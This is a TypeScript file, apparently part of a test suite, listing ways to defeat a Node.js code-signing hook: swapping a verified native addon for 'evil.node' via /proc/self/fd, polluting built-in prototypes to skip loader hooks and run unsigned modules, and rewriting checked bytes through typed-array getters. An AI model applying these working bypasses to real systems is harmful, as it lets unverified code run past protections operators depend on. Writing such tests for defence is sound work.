/**
 * These techniques change what the hook and Node.js share with the program: descriptors and built-in prototypes. They skip
 * the hook, or put other code in the place of the code that it judged.
 */

import { DATA, TEXT, type Technique, withText } from "../technique.js";
import { inModule, inScript, inWorker, type MakeTechnique } from "./programs.js";

const NATIVE = {
	native: true,
	signed: { "good.node": { library: "good" } },
} as const;
/** Puts the attacker's library in the place of a copy without a name, and, where nobody judges, of the file itself. */
const EXCHANGE = `const fs = require("fs");
let isDone = false, isBusy = false;
const exchange = () => {
  if (isDone || isBusy) return;
  isBusy = true;
  for (const fd of fs.readdirSync("/proc/self/fd").map(Number)) {
    try {
      if (!fs.readlinkSync("/proc/self/fd/" + fd).endsWith(" (deleted)") || fs.fstatSync(fd).size === 0) continue;
      isDone = true;
      fs.closeSync(fd);
      const others = [];
      for (let got = fs.openSync(data + "/evil.node"); got !== fd; got = fs.openSync(data + "/evil.node")) {
        others.push(got);
        if (others.length > 40) break;
      }
    } catch {}
  }
  try { fs.copyFileSync(data + "/evil.node", __dirname + "/good.node"); } catch {}
  isBusy = false;
};
`;
const addon = (name: string, make: MakeTechnique, program: string): Technique =>
	make(name, `${DATA}${EXCHANGE}${program}`, NATIVE);
const BY_GETTER = `process.dlopen({ get exports() { exchange(); return {}; } }, __dirname + "/good.node");`;

/** Functions of node:fs read these members of an object or a text that has none of them. */
const BY_ACCESSOR = (prototype: string, name: string) =>
	`Object.defineProperty(${prototype}, "${name}", { get() { exchange(); return undefined; }, set() {}, configurable: true });
try { process.dlopen({ exports: {} }, __dirname + "/good.node"); } catch {}
delete ${prototype}.${name};
process.dlopen({ exports: {} }, data + "/evil.node");`;
const BY_NAMESPACED_PATH = `const path = require("path"), { toNamespacedPath } = path;
path.toNamespacedPath = (file) => (String(file).startsWith("/proc/self/fd/") ? data + "/evil.node" : toNamespacedPath(file));
try { process.dlopen({ exports: {} }, __dirname + "/good.node"); } catch {}
process.dlopen({ exports: {} }, data + "/evil.node");`;

export const exchangedCopies: readonly Technique[] = [
	addon("copy of an addon exchanged by a getter of exports", inScript, BY_GETTER),
	addon("copy of an addon exchanged by a getter of exports in a module", inModule, BY_GETTER),
	addon("copy of an addon exchanged by a getter of exports in a worker", inWorker, BY_GETTER),
	addon(
		"copy of an addon exchanged by flags that are an object",
		inScript,
		`process.dlopen({ exports: {} }, __dirname + "/good.node", { valueOf() { exchange(); return 1; } });`,
	),
	addon(
		"copy of an addon exchanged by a proxy",
		inScript,
		`process.dlopen(new Proxy({}, { get() { exchange(); return {}; } }), __dirname + "/good.node");`,
	),
	addon(
		"copy of an addon exchanged by Object.prototype",
		inScript,
		`Object.defineProperty(Object.prototype, "exports", { get() { exchange(); return {}; }, set() {}, configurable: true });
process.dlopen({}, __dirname + "/good.node");`,
	),
	addon("copy of an addon exchanged by errno of Object.prototype", inScript, BY_ACCESSOR("Object.prototype", "errno")),
	addon("copy of an addon exchanged by href of String.prototype", inScript, BY_ACCESSOR("String.prototype", "href")),
	addon(
		"copy of an addon exchanged by href of Object.prototype in a worker",
		inWorker,
		BY_ACCESSOR("Object.prototype", "href"),
	),
	addon(
		"copy of an addon exchanged by a proxy behind String.prototype",
		inScript,
		`const plain = Object.getPrototypeOf(String.prototype);
Object.setPrototypeOf(String.prototype, new Proxy(plain, { get: (target, name, receiver) => { if (name === "href") exchange(); return Reflect.get(target, name, receiver); } }));
try { process.dlopen({ exports: {} }, __dirname + "/good.node"); } catch {}
Object.setPrototypeOf(String.prototype, plain);
process.dlopen({ exports: {} }, data + "/evil.node");`,
	),
	addon(
		"copy of an addon exchanged by a text that passes for a URL",
		inScript,
		`for (const [name, value] of Object.entries({ href: "x", protocol: "file:", hostname: "", pathname: data + "/evil.node" }))
  Object.defineProperty(String.prototype, name, { value, configurable: true });
try { process.dlopen({ exports: {} }, __dirname + "/good.node"); } catch {}
for (const name of ["href", "protocol", "hostname", "pathname"]) delete String.prototype[name];
process.dlopen({ exports: {} }, data + "/evil.node");`,
	),
	addon("copy of an addon exchanged by toNamespacedPath()", inScript, BY_NAMESPACED_PATH),
];

/** The element of index 1 of the list of hooks that Node.js makes for each module is taken from a prototype. */
const HOOKS = (prototype: string, load: string) =>
	`Object.defineProperty(${prototype}, 1, { get: () => ${load}, set() {}, configurable: true });\n`;
const AS_COMMONJS = `() => ({ format: "commonjs", source: text, shortCircuit: true })`;
const AS_MODULE = `() => ({ format: "module", source: text, shortCircuit: true })`;
const BEHIND_PROXY = `Object.setPrototypeOf(Array.prototype, new Proxy(Object.prototype, {
  get: (target, name, receiver) => (name === "1" ? ${AS_MODULE} : Reflect.get(target, name, receiver)),
  set: (target, name, value, receiver) => name === "1" || Reflect.set(target, name, value, receiver),
}));
`;

export const skippedHooks: readonly Technique[] = [
	withText(
		"hook skipped by index 1 of Array.prototype",
		`${HOOKS("Array.prototype", AS_MODULE)}import("file://" + data + "/evil.mjs");`,
	),
	withText(
		"hook skipped by index 1 of Object.prototype",
		`${HOOKS("Object.prototype", AS_MODULE)}import("file://" + data + "/evil.mjs");`,
	),
	inModule(
		"hook skipped by index 1 of Array.prototype in a module",
		`${TEXT}${HOOKS("Array.prototype", AS_MODULE)}await import("file://" + data + "/evil.mjs");`,
	),
	inWorker(
		"hook skipped by index 1 of Array.prototype in a worker",
		`${TEXT}${HOOKS("Array.prototype", AS_MODULE)}import("file://" + data + "/evil.mjs");`,
	),
	withText("hook skipped by a proxy behind Array.prototype", `${BEHIND_PROXY}import("file://" + data + "/evil.mjs");`),
	withText(
		"import of vm taken for a require by Object.prototype",
		`Object.defineProperty(Object.prototype, "importAttributes", { get: () => undefined, set() {}, configurable: true });
import("node:vm").then(({ Script }) => new Script(text).runInThisContext());`,
	),
	inScript(
		"import of a TypeScript file taken for a require by Object.prototype",
		`${TEXT}Object.defineProperty(Object.prototype, "importAttributes", { get: () => undefined, set() {}, configurable: true });
Object.defineProperty(Object.prototype, "code", { get: () => text, set() {}, configurable: true });
import("./dep.mts").catch(() => {}).then(() => require(data + "/evil.js"));`,
		{ signed: { "dep.mts": "export const n: number = 1;\n" } },
	),
	withText(
		"hook skipped for a required file by index 1 of Array.prototype",
		`${HOOKS("Array.prototype", AS_COMMONJS)}require(data + "/evil.cjs");`,
	),
	withText(
		"guard of vm skipped by index 1 of Array.prototype",
		`Object.defineProperty(Array.prototype, 1, { get: () => () => ({ format: "builtin", source: null, shortCircuit: true }), set() {}, configurable: true });
const vm = require("vm");
delete Array.prototype[1];
new vm.Script(text, { filename: __filename, importModuleDynamically: undefined }).runInThisContext();
if (process.execArgv.includes("--disallow-code-generation-from-strings")) process.exit();`,
	),
];

/** Getters of typed arrays that put other bytes into each array for which `evilFor` has some. */
const REWRITE = `const fs = require("fs");
const Typed = Object.getPrototypeOf(Uint8Array.prototype);
const { get: lengthOf } = Object.getOwnPropertyDescriptor(Typed, "length");
const rewriteBy = (evilFor) => {
  for (const name of ["length", "byteLength", "byteOffset", "buffer"]) {
    const { get } = Object.getOwnPropertyDescriptor(Typed, name);
    const lie = function () {
      const evil = evilFor(this, lengthOf.call(this));
      if (evil !== undefined) for (let i = 0; i < lengthOf.call(evil); i++) this[i] = evil[i];
      return get.call(this);
    };
    Object.defineProperty(Typed, name, { get: lie, configurable: true });
  }
};
`;
/** The getters act after the array was filled, and so after it was judged. */
const REWRITE_ADDON = `const good = fs.readFileSync(__dirname + "/good.node"), evil = fs.readFileSync(data + "/evil.node");
const size = good.length;
rewriteBy((bytes, length) => (length === size && bytes !== good && bytes[0] === 0x7f && bytes[size - 1] === 1 ? evil : undefined));
for (const file of [__dirname + "/good.node", data + "/evil.node"]) try { process.dlopen({ exports: {} }, file); } catch {}
`;
const PADDED = { native: true, signed: { "good.node": { library: "padded" } } } as const;
const REWRITE_WASM = (
	run: string,
) => `const good = fs.readFileSync(__dirname + "/good.wasm"), evil = fs.readFileSync(data + "/evil.wasm");
const size = good.length;
const ran = ({ exports }) => exports.f() === 43 && fs.writeSync(1, \`evil-ran-\${6 * 7}\\n\`);
rewriteBy((bytes, length) => (length === size && bytes !== good && bytes !== evil && bytes[0] === 0 ? evil : undefined));
for (const bytes of [good, evil]) try { ${run} } catch {}
`;
/** The module `(module (func (export "f") (result i32) i32.const N))`. */
const wasm = (answer: number) =>
	Buffer.from(`0061736d010000000105016000017f03020100070501016600000a0601040041${answer.toString(16)}0b`, "hex");
/** The suite has the module with 42 as unsigned one, and WebAssembly is signed by its content. */
const WASM = { signed: { "good.wasm": wasm(44) }, beside: { "evil.wasm": wasm(43) } } as const;
const BY_CLASS = "ran(new WebAssembly.Instance(new WebAssembly.Module(bytes)));";

export const rewrittenBytes: readonly Technique[] = [
	inScript("addon rewritten by getters of typed arrays", `${DATA}${REWRITE}${REWRITE_ADDON}`, PADDED),
	inModule("addon rewritten by getters of typed arrays in a module", `${DATA}${REWRITE}${REWRITE_ADDON}`, PADDED),
	inWorker("addon rewritten by getters of typed arrays in a worker", `${DATA}${REWRITE}${REWRITE_ADDON}`, PADDED),
	inScript("WebAssembly rewritten by getters of typed arrays", `${DATA}${REWRITE}${REWRITE_WASM(BY_CLASS)}`, WASM),
	inModule(
		"WebAssembly rewritten by getters of typed arrays in a module",
		`${DATA}${REWRITE}${REWRITE_WASM("ran((await WebAssembly.instantiate(bytes)).instance);")}`,
		WASM,
	),
	inWorker(
		"WebAssembly rewritten by getters of typed arrays in a worker",
		`${DATA}${REWRITE}${REWRITE_WASM(BY_CLASS)}`,
		WASM,
	),
];
